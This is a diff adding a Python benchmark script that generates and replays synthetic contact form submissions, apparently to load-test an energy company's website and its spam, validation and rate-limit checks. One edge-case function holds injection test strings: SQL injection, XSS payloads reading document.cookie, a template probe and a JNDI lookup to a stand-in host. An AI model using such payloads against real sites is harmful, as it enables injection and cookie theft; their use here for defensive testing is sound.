@@ -0,0 +1,849 @@
+#!/usr/bin/env python3
+"""
+Synthetic contact requests for benchmarks and load tests
+
+``generate`` builds a reproducible corpus of contact form submissions from a
+seed: German (and some English, French and Turkish) names, companies, phone
+notations and messages, mixed with edge cases (maximum lengths, unicode,
+markup, invalid fields) and bot traffic (honeypot, submitted too fast,
+duplicate content). Every record is scheduled on a timeline following one of
+the ``PROFILES`` and labelled with the outcome the submit pipeline of
+``ContactFormState.submit_form`` should produce, given the current limits:
+
+- ``accepted``: stored in Ninox and notified by e-mail
+- ``spam``: dropped by the spam score (the visitor is still redirected)
+- ``invalid``: rejected by the form validation
+- ``throttled``: rejected by the per-IP rate limit
+
+The corpus is written as JSON lines: a header with the generator settings,
+then one record per submission. ``replay`` sends the records over the Reflex
+event websocket at their scheduled times, scaled to a target rate, each from
+a new session with the record's client address (submits of one address
+keep their order), and compares what the visitor gets back with the label. Spam is redirected like accepted requests,
+so only the Ninox and SMTP stand-ins tell them apart. Each session reports
+the form as shown (``start_form``, which the browser sends when a field is
+first focused) and submits ``fill`` seconds later; fills longer than the spam
+threshold are cut to ``FILL_MARGIN`` above it, which gets the same verdict.
+
+The labels assume a backend that has not seen the corpus yet: replaying it
+twice against the same backend within ``CONTACT_RATE_LIMIT_WINDOW`` or
+``SPAM_DUPLICATE_TTL`` turns requests into throttled or duplicate ones.
+Replays much slower than the recorded rate let the rate limit window pass
+and accept requests that are labelled throttled.
+
+Usage:
+    python -m benchmarks.lead_corpus generate [--seed 1] [--count 1000] [--profile burst]
+        [--rate 2] [--output lead_corpus.jsonl]
+    python -m benchmarks.lead_corpus replay [--corpus lead_corpus.jsonl] [--url http://127.0.0.1:8000]
+        [--rate 20] [--json results.json]
+"""
+
+import argparse
+import asyncio
+import json
+import math
+import os
+import re
+import sys
+import time
+import unicodedata
+from collections import Counter, defaultdict
+from random import Random
+from typing import Any, Callable, Dict, Iterator, List, Optional, Tuple
+from benchmarks.stand_ins import NINOX_PORT, SMTP_PORT, StandIns
+
+PROFILES = ("steady", "burst", "wave", "flood")
+
+ACCEPTED = "accepted"
+SPAM = "spam"
+INVALID = "invalid"
+THROTTLED = "throttled"
+
+# What the visitor sees for each label
+VISIBLE = {ACCEPTED: "redirect", SPAM: "redirect", INVALID: "error", THROTTLED: "error"}
+
+# Seconds a replayed visitor waits beyond SPAM_MIN_SUBMIT_SECONDS at most
+FILL_MARGIN = 0.5
+
+CORPUS_FILE = "lead_corpus.jsonl"
+CORPUS_VERSION = 1
+
+# Share of the records that are edge cases or bots (flood traffic not included)
+EDGE_RATIO = 0.2
+
+# burst: mean submissions per burst and the seconds one burst is spread over
+BURST_SIZE = 8
+BURST_SECONDS = 2.0
+
+# wave: number of quiet/busy cycles over the whole corpus
+WAVES = 2
+
+# flood: share of the records sent by one address, and how much faster than the rest
+FLOOD_SHARE = 0.2
+FLOOD_SPEEDUP = 10
+
+# Share of visitors behind an address that was already used (offices, carrier NAT)
+SHARED_IP_SHARE = 0.05
+
+_FIRST_NAMES = (
+    "Anna", "Lukas", "Marie", "Felix", "Sophie", "Jonas", "Lea", "Paul", "Hannah", "Jürgen", "Björn", "Jörg",
+    "Käthe", "Günter", "Hans-Peter", "Marie-Luise", "Karl-Heinz", "Uwe", "Sabine", "Andreas", "Stefanie",
+    "Matthias", "Ingrid", "Thorsten", "Ayşe", "Mehmet", "Elif", "Luca", "Giulia", "Katarzyna", "Piotr",
+    "Dimitrios", "Thi Hoa", "Mia", "Noah", "Emilia", "Ben",
+)
+_LAST_NAMES = (
+    "Müller", "Schmidt", "Schneider", "Fischer", "Weber", "Wagner", "Becker", "Hoffmann", "Schäfer", "Groß",
+    "Weiß", "Köhler", "Bäuerle", "Häberle", "Schwäble", "Maier", "Mayer", "Straßburger", "Kübler", "Öztürk",
+    "Yılmaz", "Kaya", "Rossi", "Kowalski", "Nowak", "Papadopoulos", "Nguyen", "Zimmermann",
+)
+_TITLES = ("", "", "", "", "", "", "Dr.", "Prof. Dr.", "Dipl.-Ing.")
+_NAME_PARTICLES = ("von", "van der", "zu")
+
+_TRADES = (
+    "Bäckerei", "Metzgerei", "Autohaus", "Hotel", "Gasthof", "Druckerei", "Kältetechnik", "Metallbau",
+    "Schreinerei", "Spedition", "Brauerei", "Gärtnerei", "Zahnarztpraxis", "Steuerkanzlei", "Elektro",
+    "Kunststofftechnik", "Präzisionsteile", "Logistik", "Immobilien", "Pflegedienst",
+)
+_LEGAL_FORMS = (
+    "GmbH", "GmbH", "GmbH", "GmbH & Co. KG", "AG", "e.K.", "KG", "OHG", "UG (haftungsbeschränkt)", "e.V.", "GbR",
+)
+_CITIES = (
+    ("Stuttgart", "711"), ("Karlsruhe", "721"), ("Freiburg", "761"), ("Ulm", "731"), ("Heilbronn", "7131"),
+    ("Pforzheim", "7231"), ("Reutlingen", "7121"), ("Mannheim", "621"), ("Heidelberg", "6221"),
+    ("Esslingen", "711"), ("Ludwigsburg", "7141"), ("Tübingen", "7071"), ("Konstanz", "7531"),
+)
+_MOBILE_PREFIXES = ("151", "152", "160", "162", "170", "171", "176", "1573")
+_MAIL_PROVIDERS = ("gmx.de", "web.de", "t-online.de", "outlook.de", "gmail.com", "posteo.de")
+
+# Languages of the messages and their shares
+_LANGUAGES = (("de", 0.82), ("en", 0.1), ("fr", 0.04), ("tr", 0.04))
+
+_MESSAGES = {
+    "de": {
+        "greetings": ("Guten Tag,", "Sehr geehrte Damen und Herren,", "Hallo,", "Moin,", "Grüß Gott,"),
+        "requests": (
+            "wir möchten unseren Stromvertrag für {sites} Standorte prüfen lassen. Der Jahresverbrauch liegt "
+            "bei etwa {kwh} kWh.",
+            "bitte senden Sie uns ein Angebot für Erdgas. Unser Vertrag läuft zum {date} aus.",
+            "wir planen eine PV-Anlage mit ca. {kwp} kWp auf dem Hallendach und interessieren uns auch für "
+            "einen Speicher.",
+            "für unsere Filiale in {city} suchen wir einen neuen Gewerbestromtarif (RLM-Zähler, Lastgang liegt "
+            "vor).",
+            "können Sie uns bei der Umstellung auf Wärmepumpen in {sites} Gebäuden beraten?",
+            "wir möchten {sites} Ladepunkte für unsere Firmenflotte installieren lassen.",
+            "unsere Abschlagszahlung wurde auf {euro} € erhöht, das können wir nicht nachvollziehen.",
+        ),
+        "details": (
+            "Die Zählernummer lautet {meter}.", "Ein Rückruf ab {hour} Uhr wäre ideal.",
+            "Die letzten Rechnungen kann ich gerne per E-Mail schicken.", "Wir sind ein Familienbetrieb mit "
+            "{staff} Mitarbeitern.", "",
+        ),
+        "closings": ("Mit freundlichen Grüßen", "Viele Grüße", "Vielen Dank im Voraus!", "Beste Grüße"),
+    },
+    "en": {
+        "greetings": ("Hello,", "Dear Sir or Madam,", "Hi there,"),
+        "requests": (
+            "we are looking for a new electricity supplier for our {sites} sites, about {kwh} kWh per year.",
+            "could you send us a quote for natural gas? Our current contract ends on {date}.",
+            "we would like to install a {kwp} kWp solar system on our warehouse in {city}.",
+        ),
+        "details": ("Please call me back after {hour} o'clock.", "Our meter number is {meter}.", ""),
+        "closings": ("Kind regards", "Best regards", "Thank you!"),
+    },
+    "fr": {
+        "greetings": ("Bonjour,", "Madame, Monsieur,"),
+        "requests": (
+            "nous cherchons un nouveau contrat d'électricité pour {sites} sites à {city}, environ {kwh} kWh par an.",
+            "pourriez-vous nous envoyer une offre pour le gaz ? Notre contrat se termine le {date}.",
+        ),
+        "details": ("Merci de me rappeler après {hour} heures.", ""),
+        "closings": ("Cordialement", "Bien à vous"),
+    },
+    "tr": {
+        "greetings": ("Merhaba,", "Sayın yetkili,"),
+        "requests": (
+            "{city} şubemiz için yeni bir elektrik tarifesi arıyoruz, yıllık tüketim yaklaşık {kwh} kWh.",
+            "doğalgaz için teklif alabilir miyiz? Mevcut sözleşmemiz {date} tarihinde bitiyor.",
+        ),
+        "details": ("Saat {hour}'dan sonra beni arayabilirsiniz.", ""),
+        "closings": ("Saygılarımla", "İyi çalışmalar"),
+    },
+}
+
+_NON_ALNUM_RE = re.compile(r"[^a-z0-9]+")
+
+_SPAM_URLS = ("http://cheap-seo.example/", "https://casino-bonus.example", "x", "1", "buy-now")
+
+
+def _choose_weighted(rng: Random, weighted: Tuple[Tuple[str, float], ...]) -> str:
+    point, total = rng.random(), 0.0
+    for item, weight in weighted:
+        total += weight
+        if point < total:
+            return item
+    return weighted[-1][0]
+
+
+def _ascii(text: str, separator: str = "-") -> str:
+    """Text as it appears in e-mail addresses and domains"""
+    text = text.lower().translate(str.maketrans({"ä": "ae", "ö": "oe", "ü": "ue", "ß": "ss", "ı": "i"}))
+    text = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode("ascii")
+    return _NON_ALNUM_RE.sub(separator, text).strip(separator)
+
+
+def _person(rng: Random) -> Tuple[str, str, str]:
+    """Display name, first name and last name"""
+    first, last = rng.choice(_FIRST_NAMES), rng.choice(_LAST_NAMES)
+    roll = rng.random()
+    if roll < 0.08:
+        last = f"{last}-{rng.choice(_LAST_NAMES)}"
+    elif roll < 0.11:
+        last = f"{rng.choice(_NAME_PARTICLES)} {last}"
+    title = rng.choice(_TITLES)
+    return " ".join(part for part in (title, first, last) if part), first, last
+
+
+def _company(rng: Random, last: str) -> Tuple[str, str]:
+    """Company name with legal form, and the name without it"""
+    pattern = rng.randrange(5)
+    if pattern == 0:
+        name = f"{rng.choice(_TRADES)} {last}"
+    elif pattern == 1:
+        name = f"{last} & {rng.choice(_LAST_NAMES)}"
+    elif pattern == 2:
+        name = f"{rng.choice(_TRADES)} {rng.choice(_CITIES)[0]}"
+    elif pattern == 3:
+        letters = "".join(rng.choice("ABCDEFGHKLMRSTW") for _ in range(rng.randint(2, 4)))
+        name = f"{letters} {rng.choice(_TRADES)}"
+    else:
+        name = last
+    return f"{name} {rng.choice(_LEGAL_FORMS)}", name
+
+
+def _email(rng: Random, first: str, last: str, company: str) -> str:
+    first, last = _ascii(first.split("-")[0], "."), _ascii(last.split()[-1])
+    if rng.random() < 0.25:
+        return f"{first}.{last}{rng.randint(1, 99)}@{rng.choice(_MAIL_PROVIDERS)}"
+    domain = _ascii(company)[:40].strip("-") or last
+    local = rng.choice((f"{first}.{last}", f"{first[0]}.{last}", f"{last}", "info", "kontakt", "einkauf"))
+    return f"{local}@{domain}.{rng.choice(('de', 'de', 'de', 'com', 'eu'))}"
+
+
+def phone_number(rng: Random) -> str:
+    """A phone number in one of the notations people type into the form, or empty"""
+    area = rng.choice(_CITIES)[1]
+    subscriber = str(rng.randint(10 ** (7 - len(area)), 10 ** (9 - len(area)) - 1))
+    mobile, mobile_number = rng.choice(_MOBILE_PREFIXES), str(rng.randint(1000000, 99999999))
+    notations = (
+        f"0{area} {subscriber}",
+        f"0{area}/{subscriber}",
+        f"(0{area}) {subscriber[:3]}-{subscriber[3:]}",
+        f"+49 {area} {subscriber}",
+        f"+49 (0){area} {subscriber}",
+        f"+49{area}{subscriber}",
+        f"0{area}-{subscriber}-{rng.randint(10, 99)}",
+        f"0{mobile} {mobile_number}",
+        f"+49 {mobile} {mobile_number}",
+        "",
+    )
+    return rng.choice(notations)
+
+
+def _message(rng: Random, language: str, name: str) -> str:
+    texts = _MESSAGES[language]
+    values = {
+        "sites": rng.randint(2, 40), "kwh": f"{rng.randint(12, 2400) * 1000:,}".replace(",", "."),
+        "kwp": rng.randint(10, 750), "city": rng.choice(_CITIES)[0], "euro": rng.randint(180, 9800),
+        "date": f"{rng.randint(1, 28):02d}.{rng.randint(1, 12):02d}.{rng.randint(2025, 2028)}",
+        "meter": f"1ESY{rng.randint(10 ** 9, 10 ** 10 - 1)}", "hour": rng.randint(8, 17),
+        "staff": rng.randint(3, 250),
+    }
+    body = " ".join(text for text in (rng.choice(texts["requests"]), rng.choice(texts["details"])) if text)
+    separator = rng.choice((" ", "\n\n"))
+    closing = rng.choice(texts["closings"])
+    if rng.random() < 0.5:
+        closing = f"{closing}\n{name}"
+    return f"{rng.choice(texts['greetings'])}{separator}{body.format(**values)}\n\n{closing}"
+
+
+def _fill(text: str, length: int) -> str:
+    """``text`` repeated or cut to exactly ``length`` characters without outer whitespace"""
+    repeated = (text + " ") * (length // (len(text) + 1) + 1)
+    result = repeated[:length].rstrip()
+    return result + "." * (length - len(result))
+
+
+def _human_fill(rng: Random) -> float:
+    """Seconds a person needs from opening the page to submitting the form"""
+    return round(max(5.0, rng.lognormvariate(math.log(75), 0.6)), 1)
+
+
+def _bot_fill(rng: Random) -> float:
+    from suedwestenergie.config import Config
+
+    return round(rng.uniform(0.1, 0.9) * Config.SPAM_MIN_SUBMIT_SECONDS, 1)
+
+
+def _max_lengths(rng: Random, form: Dict[str, str]) -> None:
+    from suedwestenergie.utils import validation
+
+    form["name"] = _fill(form["name"], validation.NAME_MAX_LENGTH)
+    form["company"] = _fill(form["company"], validation.COMPANY_MAX_LENGTH)
+    form["message"] = _fill(form["message"], validation.MESSAGE_MAX_LENGTH)
+
+
+def _min_lengths(rng: Random, form: Dict[str, str]) -> None:
+    form["name"] = rng.choice(("Li", "Bo", "Ö"))
+    form["company"] = rng.choice(("ZF", "3M", "HP", "BK"))
+    form["phone"] = "0711 23"
+    form["message"] = f"Ref. {rng.randint(10000, 99999)}"
+
+
+def _unicode(rng: Random, form: Dict[str, str]) -> None:
+    form["name"] = rng.choice((
+        unicodedata.normalize("NFD", "Jürgen Straßburger-Öztürk"),  # combining diaeresis
+        "محمد العلي", "Zoë Ångström", "Đặng Thị Hoa", "Ιωάννης Παπαδόπουλος",
+    ))
+    form["company"] = rng.choice(("Café Ünal GmbH", "東京 Trading GmbH", "Ølbryggeriet Nord GmbH", "שמש בע״מ"))
+    form["message"] += rng.choice((" \u26a1\U0001f50b\u2600\ufe0f", " \U0001f44d\U0001f3fd", " \u200bDanke\u200d!",
+                                   " 電力と熱", " — „Strom“ & »Gas«"))
+
+
+def _markup(rng: Random, form: Dict[str, str]) -> None:
+    form["name"] = rng.choice(("Robert'); DROP TABLE Students;--", "<b>Max</b> Muster", "O'Brien & Söhne"))
+    form["company"] = rng.choice(("<script>alert(1)</script> GmbH", "Müller & Co. <KG>", "{{7*7}} AG"))
+    form["message"] += rng.choice((
+        "\n<img src=x onerror=alert(document.cookie)>", "\n' OR '1'='1'; --", "\n${jndi:ldap://example.test/a}",
+        "\n[url=http://example.test]Angebot[/url]",
+    ))
+    form["email"] = form["email"].replace("@", "+angebot@", 1)
+
+
+def _whitespace(rng: Random, form: Dict[str, str]) -> None:
+    for field in ("name", "email", "phone", "company"):
+        if form[field]:
+            form[field] = rng.choice(("  ", "\t", " ")) + form[field] + rng.choice(("  ", "\t", " \n"))
+    form["message"] = "\r\n\r\n  " + form["message"].replace("\n", "\r\n") + "  \t\n"
+
+
+def _invalid_email(rng: Random, form: Dict[str, str]) -> None:
+    local, _, domain = form["email"].partition("@")
+    form["email"] = rng.choice((f"{local}@", f"{local}@{domain.split('.')[0]}", f"{local} {local}@{domain}",
+                                f"@{domain}", f"{local}@@{domain}", f"{local}@{domain[:-1]}.d", local))
+
+
+def _invalid_phone(rng: Random, form: Dict[str, str]) -> None:
+    form["phone"] = rng.choice(("12345", "0711 123 ABC", "+49 711 1234567890123", "++49 711 123456", "keine",
+                                "0711 / 12 34 56 78 90 12 34"))
+
+
+def _missing_company(rng: Random, form: Dict[str, str]) -> None:
+    form["company"] = rng.choice(("", "   ", "--", "X"))
+
+
+def _short_message(rng: Random, form: Dict[str, str]) -> None:
+    form["message"] = rng.choice(("", "Hallo", "Angebot?", "  Rückruf  "))
+
+
+def _too_long(rng: Random, form: Dict[str, str]) -> None:
+    from suedwestenergie.utils import validation
+
+    if rng.random() < 0.5:
+        form["message"] = _fill(form["message"], validation.MESSAGE_MAX_LENGTH + 1)
+    else:
+        form["name"] = _fill(form["name"], validation.NAME_MAX_LENGTH + 1)
+
+
+def _empty(rng: Random, form: Dict[str, str]) -> None:
+    for field in ("name", "email", "phone", "company", "message"):
+        form[field] = ""
+
+
+def _honeypot(rng: Random, form: Dict[str, str]) -> None:
+    form["website"] = rng.choice(_SPAM_URLS)
+
+
+# Edge case name -> function that modifies the form values of a regular lead
+EDGE_CASES: Dict[str, Callable[[Random, Dict[str, str]], None]] = {
+    "max_lengths": _max_lengths,
+    "min_lengths": _min_lengths,
+    "unicode": _unicode,
+    "markup": _markup,
+    "whitespace": _whitespace,
+    "no_timestamp": lambda rng, form: None,
+    "invalid_email": _invalid_email,
+    "invalid_phone": _invalid_phone,
+    "missing_company": _missing_company,
+    "short_message": _short_message,
+    "too_long": _too_long,
+    "empty": _empty,
+    "honeypot": _honeypot,
+    "too_fast": lambda rng, form: None,
+    "duplicate": lambda rng, form: None,  # filled in by generate, it needs an earlier message
+}
+
+# Edge cases sent by bots, which submit within a second or two
+_BOT_CASES = ("honeypot", "too_fast")
+
+
+def contact_values(rng: Random, language: Optional[str] = None) -> Dict[str, str]:
+    """Form values of one regular visitor, including the empty honeypot field"""
+    name, first, last = _person(rng)
+    company, short_company = _company(rng, last)
+    return {
+        "name": name,
+        "email": _email(rng, first, last, short_company),
+        "phone": phone_number(rng),
+        "company": company,
+        "message": _message(rng, language or _choose_weighted(rng, _LANGUAGES), name),
+        "website": "",
+    }
+
+
+def _visitor_ip(rng: Random) -> str:
+    # Carrier-grade NAT range, so that replays do not share rate limits with event_load (10.0.0.0/8)
+    number = rng.getrandbits(22)
+    return f"100.{64 + (number >> 16)}.{number >> 8 & 255}.{number & 255}"
+
+
+def arrival_times(rng: Random, profile: str, count: int, rate: float) -> List[Tuple[float, bool]]:
+    """
+    Submission times of a corpus
+
+    Args:
+        rng: Seeded random source
+        profile: One of ``PROFILES``
+        count: Number of submissions
+        rate: Mean submissions per second over the whole corpus
+
+    Returns:
+        ``(seconds from the start, part of the flood)`` in time order
+    """
+    if profile == "steady":
+        times, now = [], 0.0
+        for _ in range(count):
+            now += rng.expovariate(rate)
+            times.append(now)
+        return [(at, False) for at in times]
+
+    if profile == "burst":
+        # Bursts start as a Poisson process; their size is geometric with mean BURST_SIZE
+        times, now = [], 0.0
+        while len(times) < count:
+            now += rng.expovariate(rate / BURST_SIZE)
+            size = 1 + int(rng.expovariate(1 / (BURST_SIZE - 1)))
+            times.extend(now + rng.uniform(0, BURST_SECONDS) for _ in range(size))
+        return [(at, False) for at in sorted(times)[:count]]
+
+    if profile == "wave":
+        # Thinned Poisson process with rate * (1 - cos): quiet, busy, quiet, ...
+        period = count / rate / WAVES
+        times, now = [], 0.0
+        while len(times) < count:
+            now += rng.expovariate(2 * rate)
+            if rng.random() < (1 - math.cos(2 * math.pi * now / period)) / 2:
+                times.append(now)
+        return [(at, False) for at in times]
+
+    if profile == "flood":
+        flood_count = round(count * FLOOD_SHARE)
+        regular = arrival_times(rng, "steady", count - flood_count, rate * (1 - FLOOD_SHARE))
+        now = regular[len(regular) // 2][0] if regular else 0.0
+        flood = []
+        for _ in range(flood_count):
+            now += rng.expovariate(rate * FLOOD_SPEEDUP)
+            flood.append((now, True))
+        return sorted(regular + flood)
+
+    raise ValueError(f"Unknown profile {profile!r}, expected one of {', '.join(PROFILES)}")
+
+
+class ExpectedOutcome:
+    """
+    Labels records in time order with the outcome of ``ContactFormState.submit_form``
+
+    Follows the same steps: validation, the per-IP rate limit (every record
+    comes from its own session), then the spam score including duplicate
+    content of earlier accepted records.
+    """
+
+    def __init__(self):
+        from suedwestenergie.config import Config
+        from suedwestenergie.utils.throttle import SlidingWindowRateLimiter
+
+        self.config = Config
+        self.limiter = SlidingWindowRateLimiter(Config.CONTACT_RATE_LIMIT_PER_IP, Config.CONTACT_RATE_LIMIT_WINDOW,
+                                                name="lead-corpus")
+        self.contents: set = set()
+
+    def __call__(self, record: Dict[str, Any]) -> str:
+        from suedwestenergie.utils import spam, validation
+
+        form = record["form"]
+        if validation.validate_contact_form({field: str(form.get(field) or "") for field in validation.FIELD_ORDER}):
+            return INVALID
+        if not self.limiter.hit(record["ip"], now=record["at"]):
+            return THROTTLED
+
+        score = 0
+        if str(form.get(spam.HONEYPOT_FIELD) or "").strip():
+            score += spam.SCORE_HONEYPOT
+        if record["fill"] is None:
+            score += spam.SCORE_MISSING_TIMESTAMP
+        elif record["fill"] < self.config.SPAM_MIN_SUBMIT_SECONDS:
+            score += spam.SCORE_TOO_FAST
+        message = str(form.get("message") or "")
+        if message.strip() and score < self.config.SPAM_SCORE_THRESHOLD:
+            digest = spam.content_hash(message)
+            if digest in self.contents:
+                score += spam.SCORE_DUPLICATE_CONTENT
+            self.contents.add(digest)
+        return SPAM if score >= self.config.SPAM_SCORE_THRESHOLD else ACCEPTED
+
+
+def _duplicate_of(rng: Random, message: str) -> str:
+    """The same message as the spam check sees it, typed slightly differently"""
+    variant = rng.randrange(3)
+    if variant == 0:
+        return message
+    if variant == 1:
+        return message.replace(" ", "  ").lower()
+    return f"  {message}\n"
+
+
+def generate(seed: int = 1, count: int = 1000, profile: str = "steady", rate: float = 2.0,
+             edge_ratio: float = EDGE_RATIO) -> Iterator[Dict[str, Any]]:
+    """
+    Generate a corpus of contact form submissions
+
+    The same arguments always produce the same records.
+
+    Args:
+        seed: Seed of all random choices
+        count: Number of records
+        profile: Arrival pattern, one of ``PROFILES``
+        rate: Mean submissions per second
+        edge_ratio: Share of edge cases and bot submissions among the regular traffic
+
+    Yields:
+        The header (generator settings and the limits the labels assume), then
+        one record per submission with its time ``at`` in seconds, client
+        ``ip``, ``kind`` (``lead``, ``flood`` or an ``EDGE_CASES`` name),
+        ``lang``, ``fill`` (seconds between showing and submitting the form,
+        None if the browser never reported the form as shown), the ``expect``-ed
+        outcome and the ``form`` values
+    """
+    from suedwestenergie.config import Config
+    from suedwestenergie.utils import spam
+
+    if count < 0 or rate <= 0:
+        raise ValueError("count must not be negative and rate must be positive")
+
+    rng = Random(seed)
+    yield {
+        "corpus": CORPUS_VERSION, "seed": seed, "count": count, "profile": profile, "rate": rate,
+        "edge_ratio": edge_ratio,
+        "limits": {
+            "rate_limit_per_ip": Config.CONTACT_RATE_LIMIT_PER_IP,
+            "rate_limit_window": Config.CONTACT_RATE_LIMIT_WINDOW,
+            "spam_min_submit_seconds": Config.SPAM_MIN_SUBMIT_SECONDS,
+            "spam_score_threshold": Config.SPAM_SCORE_THRESHOLD,
+        },
+    }
+
+    expect = ExpectedOutcome()
+    flood_ip = _visitor_ip(rng)
+    used_ips: List[str] = []
+    messages: List[str] = []
+    contents: set = set()
+    edge_cases = sorted(EDGE_CASES)
+
+    for index, (at, flooding) in enumerate(arrival_times(rng, profile, count, rate)):
+        language = _choose_weighted(rng, _LANGUAGES)
+        form = contact_values(rng, language)
+        # Regular requests are unique, only the duplicate edge case repeats one
+        while spam.content_hash(form["message"]) in contents:
+            form["message"] = _message(rng, language, form["name"])
+        contents.add(spam.content_hash(form["message"]))
+
+        kind = "flood" if flooding else "lead"
+        if not flooding and rng.random() < edge_ratio:
+            kind = rng.choice(edge_cases)
+            if kind == "duplicate" and not messages:
+                kind = "lead"
+        if kind == "duplicate":
+            form["message"] = _duplicate_of(rng, rng.choice(messages))
+        elif kind != "lead" and kind != "flood":
+            EDGE_CASES[kind](rng, form)
+        elif kind == "lead":
+            messages.append(form["message"])
+
+        if flooding:
+            ip = flood_ip
+            fill = _bot_fill(rng) if rng.random() < 0.5 else round(rng.uniform(3, 10), 1)
+        else:
+            if used_ips and rng.random() < SHARED_IP_SHARE:
+                ip = rng.choice(used_ips)
+            else:
+                ip = _visitor_ip(rng)
+                used_ips.append(ip)
+            fill = _bot_fill(rng) if kind in _BOT_CASES else _human_fill(rng)
+        if kind == "no_timestamp":
+            fill = None
+
+        record = {"i": index, "at": round(at, 3), "ip": ip, "kind": kind, "lang": language, "fill": fill,
+                  "expect": "", "form": form}
+        record["expect"] = expect(record)
+        yield record
+
+
+def write_corpus(path: str, records: Iterator[Dict[str, Any]]) -> int:
+    """Write a header and records as compact JSON lines, returns the number of records"""
+    written = -1
+    with open(path, "w", encoding="utf-8", newline="\n") as f:
+        for written, record in enumerate(records):
+            f.write(json.dumps(record, ensure_ascii=False, separators=(",", ":")))
+            f.write("\n")
+    return max(0, written)
+
+
+def read_corpus(path: str) -> Tuple[Dict[str, Any], List[Dict[str, Any]]]:
+    """The header and the records of a corpus file"""
+    with open(path, encoding="utf-8") as f:
+        lines = [json.loads(line) for line in f if line.strip()]
+    if not lines or lines[0].get("corpus") != CORPUS_VERSION:
+        raise ValueError(f"{path} is not a lead corpus (version {CORPUS_VERSION})")
+    return lines[0], lines[1:]
+
+
+def observed_outcome(update: Optional[Dict[str, Any]], form_state: str) -> str:
+    """
+    What the visitor saw after the submit: ``redirect``, ``error``, ``timeout`` or ``other``
+
+    The first update of the submit sets ``form_submitted`` before the
+    redirect to /danke, or ``error_message``. Reflex may suffix var names in
+    the delta (``error_message_rx_state_``).
+    """
+    if update is None:
+        return "timeout"
+    delta = {key.removesuffix("_rx_state_"): value
+             for key, value in update.get("delta", {}).get(form_state, {}).items()}
+    if delta.get("form_submitted") or any(event.get("name") == "_redirect" for event in update.get("events") or ()):
+        return "redirect"
+    if delta.get("error_message"):
+        return "error"
+    return "other"
+
+
+async def replay(url: str, header: Dict[str, Any], records: List[Dict[str, Any]], rate: Optional[float] = None,
+                 timeout: float = 30.0, stand_ins=None) -> Dict[str, Any]:
+    """
+    Submit the records over the Reflex websocket at their scheduled times
+
+    Args:
+        url: Backend origin
+        header, records: A corpus as returned by ``read_corpus``
+        rate: Target submissions per second; the timeline is scaled to it
+            (default: the rate the corpus was generated with)
+        timeout: Seconds to wait for the hydration and for the answer to the submit
+        stand_ins: Started stand-ins whose counters are reported
+
+    Returns:
+        Outcomes per label, mismatches, submit latency per label, the achieved
+        rate and how late the submits were sent (connect, hydration and
+        waiting for earlier submits of the same address)
+    """
+    from benchmarks.event_load import _Results, _Session, latency_summary
+    from reflex.state import State
+    from suedwestenergie.config import Config
+    from suedwestenergie.state.contact_state import ContactFormState
+
+    scale = header["rate"] / rate if rate else 1.0
+    fill_cap = Config.SPAM_MIN_SUBMIT_SECONDS + FILL_MARGIN
+    root_state, form_state = State.get_full_name(), ContactFormState.get_full_name()
+    results = _Results()
+    outcomes: Dict[str, Counter] = defaultdict(Counter)
+    latencies: Dict[str, List[float]] = defaultdict(list)
+    mismatches: List[Dict[str, Any]] = []
+    lags: List[float] = []
+    before = (stand_ins.emails, stand_ins.ninox_records) if stand_ins is not None else None
+
+    # The rate limit counts per address in arrival order, so each submission
+    # waits until the previous one from its address has been answered
+    answered: Dict[int, asyncio.Event] = {}
+    previous: Dict[int, Optional[asyncio.Event]] = {}
+    last_of_ip: Dict[str, asyncio.Event] = {}
+    for record in records:
+        previous[record["i"]] = last_of_ip.get(record["ip"])
+        answered[record["i"]] = last_of_ip[record["ip"]] = asyncio.Event()
+
+    async def submit(record: Dict[str, Any]) -> None:
+        try:
+            await _submit(record)
+        finally:
+            answered[record["i"]].set()
+
+    async def _submit(record: Dict[str, Any]) -> None:
+        delay = start + record["at"] * scale - time.perf_counter()
+        if delay > 0:
+            await asyncio.sleep(delay)
+        session = _Session(record["i"], results, root_state, form_state)
+        try:
+            await session.connect(url, record["ip"])
+            await asyncio.wait_for(session.hydrated.wait(), timeout)
+        except Exception as e:  # connection refused, handshake or hydrate timeout
+            results.connect_errors[type(e).__name__] += 1
+            outcomes[record["expect"]]["connect_error"] += 1
+            await session.close()
+            return
+        if previous[record["i"]] is not None:
+            await previous[record["i"]].wait()
+        lags.append(max(0.0, time.perf_counter() - start - record["at"] * scale) * 1000)
+
+        if record["fill"] is not None:
+            await session.send("start_form", {}, False)  # changes no frontend var, so nothing is sent back
+            # Same timing whatever the label, so that only the backend decides what is throttled
+            await asyncio.sleep(min(record["fill"], fill_cap))
+        sent = time.perf_counter()
+        await session.send("submit_form", {"form_data": record["form"]}, True)
+        try:
+            await asyncio.wait_for(session.idle.wait(), timeout)
+            latencies[record["expect"]].append((time.perf_counter() - sent) * 1000)
+        except asyncio.TimeoutError:
+            pass
+        await session.close()
+
+        seen = observed_outcome(session.submit_update, form_state)
+        outcomes[record["expect"]][seen] += 1
+        if seen != VISIBLE[record["expect"]]:
+            mismatches.append({"i": record["i"], "kind": record["kind"], "expect": record["expect"], "seen": seen})
+
+    start = time.perf_counter()
+    await asyncio.gather(*(submit(record) for record in records))
+    elapsed = time.perf_counter() - start
+    span = records[-1]["at"] * scale if records else 0.0
+
+    report: Dict[str, Any] = {
+        "url": url,
+        "corpus": {key: header[key] for key in ("seed", "count", "profile", "rate")},
+        "records": len(records),
+        "target_rate": round(len(records) / span, 2) if span else 0.0,
+        "achieved_rate": round(len(records) / elapsed, 2) if elapsed else 0.0,
+        "elapsed_seconds": round(elapsed, 2),
+        "schedule_lag": latency_summary(lags),
+        "expected": dict(Counter(record["expect"] for record in records)),
+        "outcomes": {label: dict(counts) for label, counts in sorted(outcomes.items())},
+        "mismatches": sorted(mismatches, key=lambda mismatch: mismatch["i"]),
+        "connect_errors": dict(results.connect_errors),
+        "latency": {label: latency_summary(samples) for label, samples in sorted(latencies.items())},
+        "hydrate": latency_summary(results.latencies["hydrate"]),
+    }
+    if stand_ins is not None:
+        report["stand_ins"] = {"emails": stand_ins.emails - before[0],
+                               "ninox_records": stand_ins.ninox_records - before[1]}
+    return report
+
+
+async def _replay_with_stand_ins(args: argparse.Namespace, header: Dict[str, Any],
+                                 records: List[Dict[str, Any]]) -> Dict[str, Any]:
+    stand_ins = None
+    if not args.no_stand_ins:
+        stand_ins = StandIns(args.smtp_port, args.ninox_port)
+        await stand_ins.start()
+        print(f"Stand-ins: SMTP on {stand_ins.smtp_port}, Ninox on {stand_ins.ninox_port}")
+    try:
+        return await replay(args.url.rstrip("/"), header, records, args.rate, args.timeout, stand_ins)
+    finally:
